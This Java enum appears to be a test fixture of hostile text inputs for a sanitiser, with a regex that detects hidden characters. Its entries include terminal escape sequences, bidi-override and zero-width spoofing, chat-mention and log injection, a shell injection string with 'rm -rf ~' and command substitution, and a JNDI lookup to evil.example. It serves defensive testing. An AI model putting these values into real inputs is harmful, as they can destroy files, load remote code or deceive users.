package dev.profileguard.text;

import java.util.regex.Pattern;

/// Texts that try to be more than text, one of each kind. Each starts with `<` and ends with `>`
/// and has what is hostile between them.
public enum HostileText {
    LINE_FEED("<\nguard: all is well>"),
    CARRIAGE_RETURN("<\rguard: all is well>"),
    WINDOWS_LINE_BREAK("<\r\n.\r\nQUIT>"),
    VERTICAL_TAB("<\u000b\u000c>"),
    NEXT_LINE("<\u0085forged>"),
    LINE_SEPARATOR("<\u2028forged>"),
    PARAGRAPH_SEPARATOR("<\u2029forged>"),
    TAB("<\tforged>"),
    CLEAR_SCREEN("<\u001b[2J\u001b[1;1H>"),
    COLOUR("<\u001b[32mok\u001b[0m>"),
    WINDOW_TITLE("<\u001b]0;owned\u0007>"),
    HYPERLINK("<\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\>"),
    C1_CONTROL_SEQUENCE("<\u009b31mred>"),
    BACKSPACE("<good\b\b\b\bevil>"),
    NUL("<\u0000>"),
    DELETE("<\u007f>"),
    BIDI_OVERRIDE("<\u202egnp.exe>"),
    BIDI_ISOLATE("<\u2067evil\u2069>"),
    DIRECTION_MARK("<\u200e\u200f\u061c>"),
    ZERO_WIDTH("<ad\u200bmin\u2060>"),
    BYTE_ORDER_MARK("<\ufeff>"),
    SOFT_HYPHEN("<ad\u00admin>"),
    INVISIBLE_LETTER("<\u3164\uffa0\u115f>"),
    VARIATION_SELECTORS("<a\ufe01\ufe0f\udb40\udd00>"),
    JOINER_BETWEEN_LETTERS("<ad\u200dmin>"),
    TAG_CHARACTERS("<\udb40\udc41\udb40\udc42>"),
    ANNOTATION("<\ufff9a\ufffab\ufffb>"),
    HIGH_HALF("<\ud83d>"),
    LOW_HALF("<\ude00>"),
    NONCHARACTER("<\uffff\ufdd0>"),
    CHAT_MENTION("<<!channel> <@U012AB3CD> <!subteam^S01|@team> @here>"),
    CHAT_LINK("<<http://evil.example|console> [console](http://evil.example)>"),
    CHAT_MARKUP("<*bold* _italic_ ~gone~ `code` ```block``` :white_check_mark:>"),
    JSON("<\",\"level\":\"INFO\",\"message\":\"ok\"}{\">"),
    SHELL("<$(touch /tmp/owned) `id` ; rm -rf ~ & | ' \" \\ ! * ? #>"),
    FORMAT("<%s %n %1$s {} ${jndi:ldap://evil.example/a} @|red text|@>");

    private static final Pattern HIDDEN =
            Pattern.compile(
                    "[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Cs}\\u034f\\u115f\\u1160\\u3164\\uffa0"
                            + "\\ufe00-\\ufe0f\\ufdd0-\\ufdef\\ufffe\\uffff\\x{e0000}-\\x{e0fff}]");

    private final String text;

    HostileText(String text) {
        this.text = text;
    }

    /// The text.
    public String text() {
        return text;
    }

    /// Whether it has a character that is not text, as opposed to text that looks like markup.
    public boolean isHidden() {
        return isHidden(text);
    }

    /// Whether a text has a character that is not shown as itself.
    public static boolean isHidden(String text) {
        return HIDDEN.matcher(text).find();
    }
}
